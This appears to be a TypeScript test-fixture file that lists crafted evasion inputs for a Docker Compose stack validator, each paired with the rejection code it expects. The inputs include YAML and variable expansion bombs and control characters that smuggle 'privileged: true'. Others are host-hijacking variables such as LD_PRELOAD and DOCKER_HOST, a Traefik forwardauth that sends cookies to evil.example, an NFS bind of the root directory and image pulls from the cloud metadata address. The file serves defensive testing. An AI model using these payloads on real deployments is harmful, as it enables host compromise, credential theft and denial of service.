import { type Attack, type AttackFile, atTop, compose, inService } from '../attack.ts';

const env = (content: string): AttackFile => ({ path: '.env.sample', content });
const HARMLESS = 'version: "3.8"\nservices:\n  app:\n    image: nginx:1.27\n';
const odd = { code: 'control-character' };

/** Requirement 23: small files that are large once they are read. */
const SWOLLEN: readonly Attack[] = [
  inService(23, 'a line break of Docker’s alone by an escape', 'user: "root\\L    privileged: true" #!', odd),
  inService(23, 'another such line break', 'user: "root\\P    privileged: true" #!', odd),
  inService(23, 'a next-line character by an escape', 'user: "root\\N    privileged: true" #!', odd),
  inService(23, 'such a line break in a key', 'labels: {"a\\Lb": c} #!', odd),
  inService(23, 'a terminal sequence by an escape', 'user: "\\e[2J" #!', odd),
  compose(23, 'half a megabyte of commas', `${HARMLESS}x-a: [${','.repeat(400_000)}]`, {
    ...{ code: 'yaml-too-big', line: 5 },
  }),
  compose(23, 'a hundred thousand anchors', `${HARMLESS}x-a: ${'&a '.repeat(100_000)}`, {
    ...{ code: 'yaml-too-big', line: 5 },
  }),
  compose(
    23,
    'a long text behind many aliases',
    `x-a: &a "${'x'.repeat(300_000)}"\nx-b: [${'*a,'.repeat(900)}]\n${HARMLESS}`,
    { code: 'too-much-text' },
  ),
  inService(23, 'variables that begin and never end', `command: "${'${a:-'.repeat(20_000)}" #!`, {
    ...{ code: 'too-much-text' },
  }),
  compose(
    23,
    'a long variable used ten thousand times',
    `${HARMLESS}    labels: [${'"$A",'.repeat(10_000)}]\n`,
    { code: 'too-much-text' },
    [env(`A=${'x'.repeat(60_000)}\n`)],
  ),
  {
    ...{ requirement: 23, name: 'a billion laughs of variables', code: 'env-sample' },
    ...{ file: '.env.sample', line: 4 },
    files: [
      { path: 'compose.yml', content: HARMLESS },
      env(
        `A=${'x'.repeat(100)}\n${[...'BCDEFGHIJ'].map((one, at) => `${one}=${`$${'ABCDEFGHI'[at]}`.repeat(9)}`).join('\n')}\n`,
      ),
    ],
  },
  {
    ...{ requirement: 23, name: 'variables of more than a program takes', code: 'too-much-text' },
    file: '.env.sample',
    files: [
      { path: 'compose.yml', content: HARMLESS },
      env(Array.from({ length: 10 }, (_, index) => `A${index}=${'x'.repeat(60_000)}\n`).join('')),
    ],
  },
];

const steers = (name: string): Attack => ({
  ...{ requirement: 25, name: `${name} for Docker’s client`, code: 'machine-variable', service: null },
  ...{ feature: `steers:${name}`, file: '.env.sample', line: 2 },
  files: [{ path: 'compose.yml', content: HARMLESS }, env(`A=1\n${name}=./evil\n`)],
});

/** Requirement 25: variables for the programs of the machine that deploys. */
const STEERING: readonly Attack[] = [
  ...['LD_PRELOAD', 'LD_LIBRARY_PATH', 'DOCKER_HOST', 'GODEBUG'].map(steers),
  steers('DOCKER_CLI_OTEL_EXPORTER_OTLP_ENDPOINT'),
];

const label = (text: string) => `deploy:\n  labels:\n    - "${text}" #!`;
const rule = (text: string) => label(`traefik.http.routers.\${STACK_NAME}.rule=${text}`);
const route = (feature: string) =>
  ({ code: 'router-label', feature, approvable: true, rendered: true }) as const;
const unread = (text: string) => route(`route:?${text.slice(0, 100)}`);
const long = `Host(\`bank.example\`)${' || Host(`a`)'.repeat(900)}`;
const deep = `${'('.repeat(101)}Host(\`bank.example\`)${')'.repeat(101)}`;

/** Requirement 35: what the router takes and a stricter reader does not. */
const ROUTES: readonly Attack[] = [
  inService(
    35,
    'a rule with a comment in it',
    rule('Host(/**/`bank.example`)'),
    unread('Host(/**/`bank.example`)'),
  ),
  inService(
    35,
    'a rule with a comma too many',
    rule('Host(`bank.example`,)'),
    unread('Host(`bank.example`,)'),
  ),
  inService(35, 'a rule of ten thousand characters', rule(long), unread(long)),
  inService(35, 'a rule in a hundred brackets', rule(deep), unread(deep)),
  inService(
    35,
    'every packet of every entrypoint',
    label('traefik.udp.routers.x.service=x'),
    route('route-udp:*'),
  ),
  inService(
    35,
    'cookies sent elsewhere behind a password',
    label('traefik.http.middlewares.x.forwardauth.address=http://auth:x@evil.example/'),
    route('route-auth:evil.example'),
  ),
  inService(
    35,
    'cookies sent to the router’s own interface',
    label('traefik.http.middlewares.x.forwardauth.address=http://localhost:8080/'),
    route('route-auth:localhost'),
  ),
  inService(
    35,
    'the backend of another app',
    label('traefik.http.services.shop.loadbalancer.server.port=80'),
    {
      ...route('route-backend:shop'),
    },
  ),
  inService(35, 'another app without its guard', label('traefik.http.routers.x.service=shop@swarm'), {
    ...route('route-server:shop@swarm'),
  }),
  inService(
    35,
    'the certificates of all',
    label('traefik.tls.stores.default.defaultgeneratedcert.resolver=x'),
    {
      ...route('route-tls:traefik.tls.stores.default.defaultgeneratedcert.resolver'),
    },
  ),
  inService(
    35,
    'a file of the router',
    label('traefik.http.middlewares.x.basicauth.usersfile=/run/secrets/x'),
    {
      ...route('route-file:/run/secrets/x'),
    },
  ),
];

const count = (what: string, times: number) =>
  ({
    code: 'resource-budget',
    feature: `count-${what}:${times}`,
    approvable: true,
    rendered: true,
    service: null,
  }) as const;
const many = (times: number, one: (index: number) => string) =>
  Array.from({ length: times }, (_, index) => one(index)).join('');

/** Requirements 27, 33, 34, 36 and 40 by another way. */
const OTHERS: readonly Attack[] = [
  compose(
    33,
    'a thousand services without tasks',
    `services:${' '}#!\n${many(101, (index) => `  s${index}: {image: x, deploy: {replicas: 0}}\n`)}`,
    {
      ...{ ...count('service', 101), line: 1 },
    },
  ),
  compose(
    33,
    'a hundred networks and more',
    `services: {app: {image: x, networks: [${many(101, (index) => `n${index},`)}]}}\nnetworks:\n${many(101, (index) => `  n${index}: {}\n`)}`,
    {
      ...{ ...count('network', 101), line: 1 },
    },
  ),
  atTop(
    27,
    'a bind of all below among options of NFS',
    'volumes:\n  data:\n    driver_opts: {type: nfs, o: rbind, device: /} #!',
    {
      ...{ code: 'volume-options', feature: 'volume-options:data:device=/,o=rbind,type=nfs', rendered: true },
    },
  ),
  atTop(
    34,
    'a volume that the node names',
    'volumes:\n  v:\n    name: "${STACK_NAME}_{{.Node.Hostname}}" #!',
    {
      ...{ code: 'foreign-name', feature: 'name:volume:${STACK_NAME}_{{.Node.Hostname}}', rendered: true },
    },
  ),
  compose(
    36,
    'the metadata service by another of its addresses',
    'services:\n  app:\n    image: "[::ffff:169.254.169.254]/x" #!\n',
    {
      ...{ code: 'image-host', feature: 'image-host:[::ffff:169.254.169.254]', rendered: true },
    },
  ),
  atTop(40, 'addresses from a program of the host', 'networks: {default: {ipam: {driver: evil}}} #!', {
    ...{ code: 'network-driver', feature: 'address-driver:default:evil', rendered: true },
  }),
];

export const EVASIONS: readonly Attack[] = [...SWOLLEN, ...STEERING, ...ROUTES, ...OTHERS];
